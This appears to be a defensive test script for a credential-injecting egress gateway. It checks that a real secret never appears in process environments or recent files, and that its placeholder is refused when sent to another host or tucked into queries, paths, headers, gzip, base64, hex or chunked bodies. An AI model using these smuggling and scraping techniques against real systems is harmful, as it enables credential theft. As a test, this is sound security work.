#: number: 27
#: network: outside
#: title: The credential behind the placeholder
#: technique: Look for the value inside; send the placeholder elsewhere, in a query, a path, a body, another header, compressed, in pieces, encoded, to be echoed.
#: reference: REQUIREMENTS N5
#: expected: the value is nowhere inside and at no other host; a placeholder off its place is refused, with an alarm
#: control: without a gateway the variable holds the value itself
#: egress: {allow: [{host: www.allowed.example, inspect: true}, {host: api.allowed.example, inspect: true}]}
#: secrets: {SERVICE_KEY: {from: {env: PROBE_SECRET}, hosts: [api.allowed.example]}}
#: records: placeholder

import base64
import gzip
import hashlib
import re

TIMEOUT = 20
MINE = os.environ.get("SERVICE_KEY", "")
if len(MINE) < 8:
    raise SystemExit("no placeholder in SERVICE_KEY")
DIGEST = os.environ["PROBE_SECRET_DIGEST"]


def holds_value(data):
    """Falls when the value, 40 hex digits known by their digest alone, is in the data."""
    text = data if isinstance(data, bytes) else data.encode()
    for match in re.finditer(b"(?=([0-9a-f]{40}))", text):
        if hashlib.sha256(match.group(1)).hexdigest() == DIGEST:
            return "the value itself"
    raise Held("not the value")


def asked(host, target="/echo", headers=(), body=b"", method="POST"):
    context = trusting()
    context.set_alpn_protocols(["http/1.1"])
    with context.wrap_socket(opened_tcp(host, 443), server_hostname=host) as client:
        head = "%s %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\nContent-Length: %d\r\n" % (method, target, host, len(body))
        client.sendall((head + "".join("%s: %s\r\n" % h for h in headers) + "\r\n").encode("latin-1") + body)
        got = all_of(client)
    if not got:
        raise Held("closed without a byte")
    return got


def leaves(*arguments, **named):
    """Falls when a request with the placeholder where it must not be is answered with success."""
    return lambda: served(asked(*arguments, **named))


refused("variable")(lambda: holds_value(MINE))


@refused("processes-and-files", within=8)
def _():
    found = b""
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        for name in ("environ", "cmdline"):
            try:
                found += open("/proc/%s/%s" % (pid, name), "rb").read(65536)
            except OSError:
                pass
    began = time.monotonic()
    for place in ("/run", "/tmp", "/workspace", "/etc"):
        for folder, _, files in os.walk(place):
            if time.monotonic() - began > 3:
                break
            for file in files[:50]:
                try:
                    path = os.path.join(folder, file)
                    if stat.S_ISREG(os.lstat(path).st_mode) and os.path.getsize(path) < 20000 and os.stat(path).st_mtime > time.time() - 600:
                        found += open(path, "rb").read()
                except OSError:
                    pass
    return holds_value(found[:2_000_000])


BEARER = ("Authorization", "Bearer " + MINE)
refused("echoed-back")(lambda: holds_value(asked("api.allowed.example", headers=[BEARER])))
refused("echoed-back-as-base64")(lambda: holds_value(base64.b64decode(asked("api.allowed.example", "/echo", [("Authorization", "Basic " + base64.b64encode(b"me:" + MINE.encode()).decode())])
    .split(b"Basic ")[-1].split(b'"')[0].strip() + b"====")))
refused("other-host")(leaves("www.allowed.example", headers=[BEARER]))
refused("other-host-basic")(leaves("www.allowed.example", headers=[("Authorization", "Basic " + base64.b64encode(b"me:" + MINE.encode()).decode())]))
for _host in ("www.allowed.example", "api.allowed.example"):
    _at = "-at-" + _host.split(".")[0]
    refused("query" + _at)(leaves(_host, "/echo?key=" + MINE))
    refused("encoded-query" + _at)(leaves(_host, "/echo?key=" + "".join("%%%02x" % ord(c) for c in MINE)))
    refused("path" + _at)(leaves(_host, "/x/" + MINE))
    refused("other-header" + _at)(leaves(_host, headers=[("X-Elsewhere", MINE)]))
    refused("body" + _at)(leaves(_host, body=b"key=" + MINE.encode()))
    refused("json-body" + _at)(leaves(_host, headers=[("Content-Type", "application/json")], body=json.dumps({"key": MINE}).encode()))
    refused("gzip-body" + _at)(leaves(_host, headers=[("Content-Encoding", "gzip")], body=gzip.compress(b"key=" + MINE.encode())))
    refused("base64-body" + _at)(leaves(_host, body=base64.b64encode(b"key=" + MINE.encode())))
    refused("late-body" + _at)(leaves(_host, body=b"x" * 300000 + MINE.encode()))


@refused("hex-body")
def _():
    # No gateway knows every encoding: what it does not know goes on as it is, a placeholder that means nothing, and no value is put in.
    got = asked("api.allowed.example", body=MINE.encode().hex().encode())
    runs = re.findall(b"(?:[0-9a-f]{2}){40,}", got)
    return holds_value(b" ".join(bytes.fromhex(r.decode()) for r in runs))


@refused("split-in-chunks")
def _():
    context = trusting()
    context.set_alpn_protocols(["http/1.1"])
    with context.wrap_socket(opened_tcp("www.allowed.example", 443), server_hostname="www.allowed.example") as client:
        client.sendall(b"POST /echo HTTP/1.1\r\nHost: www.allowed.example\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n")
        for i in range(0, len(MINE), 5):
            piece = MINE[i:i + 5].encode()
            client.sendall(b"%x\r\n%s\r\n" % (len(piece), piece))
            time.sleep(0.02)
        client.sendall(b"0\r\n\r\n")
        return served(all_of(client))

works("at-its-host")(lambda: served(asked("api.allowed.example", headers=[BEARER])))
works("without-it")(lambda: served(asked("www.allowed.example", body=b"key=none")))


run()
